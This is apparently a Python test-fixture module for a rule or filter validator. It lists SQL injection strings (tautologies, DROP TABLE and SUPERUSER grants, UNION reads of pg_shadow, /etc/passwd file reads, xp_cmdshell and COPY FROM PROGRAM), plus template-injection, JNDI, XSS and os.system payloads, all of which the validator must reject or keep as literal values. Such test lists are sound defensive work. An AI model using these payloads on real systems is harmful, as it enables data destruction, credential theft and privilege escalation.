"""Texts that try to get out of a rule: what people send to databases, template engines, shells and other languages."""

_TAUTOLOGIES = """
' OR '1'='1
' OR 1=1 --
' OR 1=1#
' OR 1=1/*
" OR "1"="1
" OR 1=1 --
') OR ('1'='1
')) OR (('1'='1
' OR 'x'='x
' OR TRUE --
1 OR 1=1
1' OR '1'='1' --
admin' --
admin' #
admin'/*
' OR ''='
'='
'-'
' '
'&'
'^'
'*'
' or 1=1 limit 1 -- -+
' OR 2>1 --
' || '1'='1
' && 1=1 --
\\' OR 1=1 --
%27%20OR%201=1--
&#39; OR 1=1 --
ʼ OR 1=1 --
＇ OR 1=1 --
"""
_STACKED = """
'; DROP TABLE customers; --
'; DROP TABLE customers CASCADE; --
1; DROP TABLE customers
'; DELETE FROM customers; --
'; UPDATE accounts_user SET is_superuser=true; --
'; INSERT INTO ledger_entry VALUES (1); --
'; TRUNCATE ledger_entry; --
'; ALTER ROLE segportal_app SUPERUSER; --
'; CREATE TABLE x(y text); --
'; GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC; --
'; COPY customers TO '/tmp/x'; --
'; COPY x FROM PROGRAM 'id'; --
'; SET ROLE segportal_owner; --
'; SELECT pg_sleep(10); --
'; SHUTDOWN; --
'; EXEC xp_cmdshell('dir'); --
'; COMMIT; --
'; VACUUM; --
'; DO $$ BEGIN PERFORM 1; END $$; --
'; ATTACH 'x.db'; --
'; PRAGMA database_list; --
'; INSTALL httpfs; LOAD httpfs; --
'; SET spark.sql.ansi.enabled=false; --
"""
_UNIONS = """
' UNION SELECT NULL --
' UNION SELECT NULL,NULL,NULL --
' UNION ALL SELECT 1,2,3 --
' UNION SELECT usename, passwd FROM pg_shadow --
' UNION SELECT table_name, NULL FROM information_schema.tables --
1 UNION SELECT password FROM accounts_user
' UNION SELECT version() --
' INTERSECT SELECT 1 --
' EXCEPT SELECT 1 --
orders = (SELECT 1)
orders IN (SELECT orders FROM customers)
EXISTS (SELECT 1 FROM accounts_user)
orders = ANY(ARRAY[1])
orders = ALL(SELECT 1)
(SELECT count(*) FROM accounts_user) > 1
(TABLE accounts_user) IS NULL
(VALUES (1)) = orders
orders = 1 LIMIT 1
orders = 1 GROUP BY orders HAVING 1=1
orders = 1 ORDER BY 1
orders = 1 RETURNING *
WITH x AS (SELECT 1) SELECT 1
"""
_FUNCTIONS = """
pg_sleep(10) IS NULL
orders = 1 AND pg_sleep(10) IS NULL
sleep(10) = 0
benchmark(1000000, md5('a')) = 0
pg_read_file('/etc/passwd') = city
pg_ls_dir('/') = city
lo_import('/etc/passwd') = 1
lo_export(1, '/tmp/x') = 1
dblink('host=x', 'select 1') IS NULL
dblink_connect('host=x') = city
set_config('role', 'postgres', false) = city
current_setting('is_superuser') = 'on'
query_to_xml('select 1', true, true, '') IS NULL
xmlparse(document '<x/>') IS NULL
version() = city
current_user = city
session_user = city
inet_server_addr() = city
load_file('/etc/passwd') = city
read_csv('/etc/passwd') IS NULL
read_text('/etc/passwd') = city
getenv('HOME') = city
java_method('java.lang.Runtime', 'x') = city
reflect('java.lang.System', 'exit', 0) = city
hex(city) = '41'
char(65) = city
chr(65) = city
concat('a', 'b') = city
substring(city from 1 for 1) = 'a'
extractvalue(1, concat(0x7e, version())) = city
updatexml(1, 'x', 1) = city
utl_http.request('http://x') = city
LOWER((SELECT 'a')) = city
LOWER(city) = LOWER((SELECT 'a'))
CONTAINS(tags, (SELECT 'a'))
CONTAINS((SELECT tags), 'a')
IN_SEGMENT((SELECT 'vip'))
IN_SEGMENT('vip' || 'x')
IN_SEGMENT('vip'') OR (''1''=''1')
IN_SEGMENT('../../../etc/passwd')
"""
_FORMS = """
orders::text = '1'
'customers'::regclass = city
CAST(orders AS text) = '1'
orders = 1::int
city = E'\\x41'
city = U&'\\0041'
city = N'a'
city = X'41'
city = B'1'
city = $$a$$
city = $tag$a$tag$
city = q'[a]'
city = `city`
[city] = 'a'
public.customers.city = 'a'
customers.city = 'a'
city OPERATOR(pg_catalog.=) 'a'
city COLLATE "C" = 'a'
city ~ '(a+)+$'
city ~* 'a'
city SIMILAR TO '(a|b)*'
city REGEXP 'a'
city GLOB 'a*'
city ILIKE 'a'
city LIKE 'a' ESCAPE 'x'
ROW(orders) = ROW(1)
(orders, spend) = (1, 2)
ARRAY[1] = ARRAY[orders]
CASE WHEN 1=1 THEN mailable ELSE member END
COALESCE(city, 'a') = 'a'
orders IS DISTINCT FROM 1
orders = 1 /* comment */
orders = 1 -- comment
orders = 1 # comment
/*!50000 orders */ = 1
orders = 1;
orders = 1; SELECT 1
orders = @@version
orders = @x
orders = :x
orders = %(x)s
orders = %s
orders = ?
orders = $1
orders = {x}
orders = {{ 7*7 }}
{% load x %}
${jndi:ldap://x/a}
#{7*7}
<%= 7*7 %>
<script>alert(1)</script>
__import__('os').system('id')
orders = 1 AND 1/0 = 1
orders * 1 = 1
orders || 'x' = 'y'
orders << 1 = 2
orders ^ 1 = 2
orders & 1 = 1
orders | 1 = 1
~orders = 1
@orders = 1
!mailable
mailable && member
mailable || member
NOT EXISTS (SELECT 1)
orders = 0x1F
orders = 1e999
orders = 'NaN'
orders = NaN
orders = Infinity
orders = NULL
NULL IS NULL
DEFAULT
*
"""


def _lines(block: str) -> list[str]:
    return [line for line in block.strip("\n").split("\n") if line.strip()]


# Whole rules: each must be refused.
RULES = [text for block in (_STACKED, _UNIONS, _FUNCTIONS, _FORMS) for text in _lines(block)]
RULES += [text for text in _lines(_TAUTOLOGIES) if text not in ("' '", "'-'", "'*'", "'^'", "'&'", "'='")]
# Values and names: each must stay what it is.
VALUES = [text for block in (_TAUTOLOGIES, _STACKED, _UNIONS, _FUNCTIONS, _FORMS) for text in _lines(block)]
